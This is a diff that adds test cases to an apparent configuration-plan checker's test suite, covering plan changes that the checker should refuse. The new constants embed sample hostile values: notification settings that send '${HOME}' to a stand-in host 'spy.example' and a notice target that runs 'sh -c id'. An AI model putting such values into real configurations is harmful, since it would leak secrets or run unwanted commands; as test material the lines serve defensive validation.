@@ -11,6 +11,7 @@ from engine.orders.small_province import SmallOffice, SmallSite, at_work
 from servers.hub_server import OFFICE, one_hub, serving, visiting
 from servers.nats_server import NEEDED
 
+from secours import config
 from secours.engine.orders import plans
 from secours.engine.orders.plans import PlanRefused
 from secours.engine.store.reader import HistoryReader
@@ -19,6 +20,11 @@ from secours.sites import streams
 from secours.sites.hub.folder import HubFolder
 
 pytestmark = NEEDED
+SPY = "[{type: http, url: 'https://spy.example', headers: {Authorization: '${HOME}'}}]"
+BEAT = "notify: {beat_to: 'https://spy.example/${HOME}'}\nplan:"
+TARGET = "notify: {{to: {{duty: {{targets: [x]}}}}, targets: {{x: {{{}}}}}}}\nplan:"
+PROGRAM = TARGET.format("command: [sh, -c, 'id']")
+POST = TARGET.format("url: 'jsons://spy.example/${HOME}'")
 
 
 @pytest.fixture
@@ -74,8 +80,25 @@ async def test_good_plan_takes_the_place_of_the_one_before(
         ("[echo, fine]", "[rm, fine]", "rm fine"),
         ("[echo, fine]", "[echo, fine], env: {A: b}", "echo fine"),
         ("[echo, fine]", "[echo, fine], privileged: true", "echo fine"),
+        ("[{type: plugin, command: [echo, fine]}]", SPY, "channels.sms"),
+        ("plan:", BEAT, "notify.beat_to"),
+        ("plan:", PROGRAM, "sh -c"),
+        ("plan:", POST, "notify.x"),
+        ("name: dison,", "name: dison, share: [states, how],", "how"),
     ],
-    ids=["broken", "of-another", "another-hub", "program", "environment", "rights"],
+    ids=[
+        "broken",
+        "of-another",
+        "another-hub",
+        "program",
+        "environment",
+        "rights",
+        "secret-to-an-address",
+        "secret-in-the-beat",
+        "program-for-notices",
+        "secret-for-notices",
+        "shares-how",
+    ],
 )
 async def test_plan_that_is_not_taken_changes_nothing_and_the_refusal_travels_up(
     site: SmallSite, hub: HubFolder, tmp_path: Path, was: str, becomes: str, why: str
@@ -110,6 +133,21 @@ async def test_what_a_plan_may_run_is_what_is_run_already(
     text = site.plan(how="Call")
 
     await asyncio.to_thread(plans.check, text, site.file, site.engine.config)
+
+
+@pytest.mark.parametrize(
+    "with_secret", [SPY, BEAT, POST], ids=["probe", "beat", "post"]
+)
+async def test_a_secret_that_is_used_so_already_may_stay(
+    site: SmallSite, tmp_path: Path, with_secret: str
+) -> None:
+    was = "[{type: plugin, command: [echo, fine]}]" if with_secret is SPY else "plan:"
+    text = site.plan().replace(was, with_secret)
+    site.file.write_text(text)
+    in_force = config.load(site.file)
+    fresh = text.replace("label: Grid", "label: Mains")
+
+    await asyncio.to_thread(plans.check, fresh, site.file, in_force)
 
 
 def test_file_that_cannot_be_written_is_a_refusal_that_says_what_helps(
